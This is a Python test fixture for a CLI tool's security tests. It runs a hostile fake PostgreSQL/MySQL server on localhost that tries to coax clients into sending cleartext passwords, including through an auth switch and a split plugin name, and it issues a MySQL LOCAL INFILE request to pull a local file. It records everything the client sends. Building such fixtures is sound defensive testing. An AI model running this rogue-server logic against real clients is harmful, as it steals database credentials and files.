#!/usr/bin/env python3
"""A hostile database listener for p0's hostile CLI tests: it asks the client for what a thief
would want, and writes every byte the client sent to OUT_FILE.

usage: fake_db.py MODE PORT_FILE OUT_FILE [CERT KEY]
modes:
  pg-cleartext  PostgreSQL: ask for the password in cleartext (AuthenticationCleartextPassword)
  pg-tls        PostgreSQL: accept TLS with the given (self-signed) certificate, then ask for cleartext
  pg-ok-then-cleartext  PostgreSQL: AuthenticationOk, then a cleartext request anyway
  my-cleartext  MySQL: handshake naming the mysql_clear_password plugin
  my-split-plugin  MySQL: the cleartext plugin's name split across the scramble fields
  my-switch     MySQL: native handshake, then an AuthSwitchRequest to mysql_clear_password
  my-tls        MySQL: offer TLS with the given certificate, then ask for cleartext
  my-infile     MySQL: accept any login, then answer the first query with LOCAL INFILE of the
                path in the environment variable P0_STEAL
"""
import os
import socket
import ssl
import struct
import sys
import threading

mode, port_file, out_file = sys.argv[1], sys.argv[2], sys.argv[3]
cert = sys.argv[4] if len(sys.argv) > 4 else None
key = sys.argv[5] if len(sys.argv) > 5 else None
lock = threading.Lock()


def record(data):
    with lock, open(out_file, "ab") as f:
        f.write(data)


def recv_some(conn, timeout=3.0):
    conn.settimeout(timeout)
    got = b""
    try:
        while True:
            chunk = conn.recv(65536)
            if not chunk:
                break
            got += chunk
            record(chunk)
    except (socket.timeout, OSError, ssl.SSLError):
        pass
    return got


def recv_exact(conn, n):
    buf = b""
    while len(buf) < n:
        chunk = conn.recv(n - len(buf))
        if not chunk:
            raise EOFError
        record(chunk)
        buf += chunk
    return buf


def tls_wrap(conn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    return ctx.wrap_socket(conn, server_side=True)


def pg(conn):
    while True:
        (length,) = struct.unpack("!I", recv_exact(conn, 4))
        body = recv_exact(conn, length - 4)
        code = struct.unpack("!I", body[:4])[0]
        if code in (80877103, 80877104):  # SSLRequest, GSSENCRequest
            if mode == "pg-tls" and code == 80877103:
                conn.sendall(b"S")
                conn = tls_wrap(conn)
            else:
                conn.sendall(b"N")
            continue
        break
    if mode == "pg-ok-then-cleartext":  # AuthenticationOk, then ask anyway
        conn.sendall(b"R" + struct.pack("!II", 8, 0))
    conn.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
    recv_some(conn)


def my_packet(seq, payload):
    return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload


def handshake(plugin, caps_extra=0):
    caps = 0x00000200 | 0x00008000 | 0x00080000 | 0x00000008 | caps_extra  # 4.1, secure conn, plugin auth, db
    scramble = b"abcdefghijklmnopqrst"
    return (
        b"\x0a" + b"5.7.99-evil\x00" + struct.pack("<I", 7) + scramble[:8] + b"\x00"
        + struct.pack("<H", caps & 0xFFFF) + b"\x21" + struct.pack("<H", 2)
        + struct.pack("<H", caps >> 16) + bytes([21]) + b"\x00" * 10
        + scramble[8:] + b"\x00" + plugin + b"\x00"
    )


def my_read(conn):
    head = recv_exact(conn, 4)
    length = head[0] | head[1] << 8 | head[2] << 16
    return head[3], recv_exact(conn, length)


def mysql(conn):
    if mode == "my-split-plugin":
        # scramble length 0: a client reading the name right after the first scramble part
        # reads `mysql_clear_password`; a careless reader finds an empty name.
        caps = 0x00000200 | 0x00008000 | 0x00080000 | 0x00000008
        hello = (
            b"\x0a" + b"5.7.99-evil\x00" + struct.pack("<I", 7) + b"mysql_cl" + b"\x00"
            + struct.pack("<H", caps & 0xFFFF) + b"\x21" + struct.pack("<H", 2)
            + struct.pack("<H", caps >> 16) + bytes([0]) + b"\x00" * 10 + b"ear_password\x00"
        )
        conn.sendall(my_packet(0, hello))
        recv_some(conn)
    elif mode == "my-cleartext":
        conn.sendall(my_packet(0, handshake(b"mysql_clear_password")))
        recv_some(conn)
    elif mode == "my-switch":
        conn.sendall(my_packet(0, handshake(b"mysql_native_password")))
        seq, _ = my_read(conn)
        conn.sendall(my_packet(seq + 1, b"\xfemysql_clear_password\x00"))
        recv_some(conn)
    elif mode == "my-tls":
        conn.sendall(my_packet(0, handshake(b"mysql_clear_password", 0x00000800)))
        seq, payload = my_read(conn)
        if len(payload) == 32:  # SSL request
            conn = tls_wrap(conn)
        recv_some(conn)
    elif mode == "my-infile":
        conn.sendall(my_packet(0, handshake(b"mysql_native_password")))
        seq, _ = my_read(conn)
        conn.sendall(my_packet(seq + 1, b"\x00\x00\x00\x02\x00\x00\x00"))  # OK
        while True:
            seq, payload = my_read(conn)
            if payload[:1] == b"\x03":  # COM_QUERY
                conn.sendall(my_packet(seq + 1, b"\xfb" + os.environ["P0_STEAL"].encode()))
                recv_some(conn)
                return


def serve(conn):
    try:
        if mode.startswith("pg"):
            pg(conn)
        else:
            mysql(conn)
    except Exception:
        pass
    finally:
        conn.close()


sock = socket.socket()
sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
sock.bind(("127.0.0.1", 0))
sock.listen(16)
open(out_file, "wb").close()
with open(port_file + ".tmp", "w") as f:
    f.write(str(sock.getsockname()[1]))
os.rename(port_file + ".tmp", port_file)
while True:
    c, _ = sock.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
